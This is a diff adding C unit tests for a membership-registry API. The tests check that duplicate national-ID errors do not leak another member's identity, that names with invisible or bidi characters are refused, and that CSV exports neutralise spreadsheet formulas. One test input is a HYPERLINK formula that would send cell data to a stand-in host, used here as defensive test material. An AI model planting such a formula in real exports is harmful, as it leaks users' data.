+    if (!strcmp(r->action, "member.nid_check") && r->entity_id == a->member)
+        a->n++;
+}
+
+static int nid_checks(int64_t member)
+{
+    struct store *st;
+    struct tcxd_error e;
+    struct nid_audit a = {member, 0};
+    struct audit_query q = {0, NULL, NULL, 100000};
+    if (store_open(db, STORE_READONLY, &st, &e))
+        return -1;
+    if (store_audit_list(st, &q, count_nid_check, &a, &e))
+        a.n = -1;
+    store_close(st);
+    return a.n;
+}
+
+/* A national ID of someone registered elsewhere: who to contact, no id, no place outside; the
+   check is audited. One registered here: the member. */
+static void test_duplicate_national_id(void **state)
+{
+    const char *fmt = "{\"full_name\":\"Lê Thị Trùng\",\"gender\":\"nu\","
+                      "\"birth_date\":\"1990-01-01\",\"org_id\":%lld,"
+                      "\"decision_date\":\"2024-01-01\",\"national_id\":\"%s\"}";
+    char body[512], idtext[96];
+    snprintf(body, sizeof(body), fmt, (long long)id_a1, "001080000102"); /* Đỗ Văn Bênkia, PB */
+    int before = nid_checks(subject_id[K_M_SIBLING]);
+    json_t *j = NULL;
+    assert_int_equal(call_json(&s_staff, "POST", "/api/members", body, &j), 409);
+    const char *msg = json_string_value(json_object_get(json_object_get(j, "error"), "message"));
+    assert_non_null(msg);
+    assert_non_null(strstr(msg, "already registered"));
+    assert_non_null(strstr(msg, "Đảng bộ Quận A")); /* the committee above both wards */
+    snprintf(idtext, sizeof(idtext), "#%lld", (long long)subject_id[K_M_SIBLING]);
+    assert_null(strstr(msg, idtext));
+    assert_null(strstr(msg, "Bênkia"));
+    assert_null(strstr(msg, "001080000102"));
+    json_decref(j);
+    assert_int_equal(nid_checks(subject_id[K_M_SIBLING]), before + 1);
+    /* the import says the same */
+    char csv[512];
+    snprintf(csv, sizeof(csv),
+             "full_name,gender,birth_date,admission_decision_date,ceremony_date,org,national_id\n"
+             "Lê Thị Trùng,nu,1990-01-01,2024-01-01,2024-01-01,A1,001080000102\n");
+    struct resp r;
+    assert_true(http_request(&s_staff, "POST", "/api/import/members", "text/csv", csv, 0, &r));
+    assert_int_equal(r.status, 200);
+    assert_non_null(strstr(r.body, "already registered"));
+    assert_null(strstr(r.body, idtext));
+    assert_null(strstr(r.body, "Bênkia"));
+    resp_release(&r);
+    /* someone of the ward: named with the member's number */
+    snprintf(body, sizeof(body), fmt, (long long)id_a1, "001080000100");
+    assert_int_equal(call_json(&s_staff, "POST", "/api/members", body, &j), 409);
+    msg = json_string_value(json_object_get(json_object_get(j, "error"), "message"));
+    snprintf(idtext, sizeof(idtext), "member #%lld of Chi bộ Trong Một", (long long)m_inside);
+    assert_non_null(strstr(msg, idtext));
+    json_decref(j);
+}
+
+/* Names with bidi controls or other invisible format characters are refused; cells that a
+   spreadsheet would run as formulas are exported as text. */
+static void test_names_and_csv_cells(void **state)
+{
+    const char *bad[] = {"Lê Văn \u202eAn", "Lê\u200b Văn An", "Lê Văn \u2066An\u2069",
+                         "\ufeffLê Văn An"};
+    for (size_t i = 0; i < 4; i++) {
+        char body[512];
+        snprintf(body, sizeof(body),
+                 "{\"full_name\":\"%s\",\"gender\":\"nam\",\"birth_date\":\"1990-01-01\","
+                 "\"org_id\":%lld,\"decision_date\":\"2024-01-01\"}",
+                 bad[i], (long long)id_a1);
+        json_t *j = NULL;
+        assert_int_equal(call_json(&s_staff, "POST", "/api/members", body, &j), 400);
+        assert_string_equal(
+            json_string_value(json_object_get(json_object_get(j, "error"), "field")), "full_name");
+        json_decref(j);
+    }
+    const char *formula = "=HYPERLINK(\\\"http://x.invalid/?\\\"&G2,\\\"Xem\\\")";
+    char body[512];
+    snprintf(body, sizeof(body),
+             "{\"full_name\":\"%s\",\"gender\":\"nam\",\"birth_date\":\"1990-01-01\","
+             "\"org_id\":%lld,\"decision_date\":\"2024-01-01\",\"hometown\":\"@SUM(1)\"}",
+             formula, (long long)id_a2);
+    json_t *j = NULL;
+    int st = call_json(&s_staff, "POST", "/api/members", body, &j);
+    json_decref(j);
+    assert_int_equal(st, 201);
+    struct resp r;
+    char p[128];
+    snprintf(p, sizeof(p), "/api/export/members?org=%lld", (long long)id_a2);
+    assert_true(http_request(&s_staff, "GET", p, NULL, NULL, 0, &r));
+    assert_int_equal(r.status, 200);
+    /* the cell, quoted per RFC 4180, starts with an apostrophe */
+    assert_non_null(strstr(r.body, "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&G2"));
+    assert_non_null(strstr(r.body, "\"'@SUM(1)\""));
+    assert_null(strstr(r.body, ",=HYPERLINK"));
+    assert_null(strstr(r.body, "\"=HYPERLINK"));
+    resp_release(&r);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_table_covers_every_route),
+        cmocka_unit_test(test_every_route_every_outsider),
+        cmocka_unit_test(test_inside_answers),
+        cmocka_unit_test(test_duplicate_national_id),
+        cmocka_unit_test(test_names_and_csv_cells),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
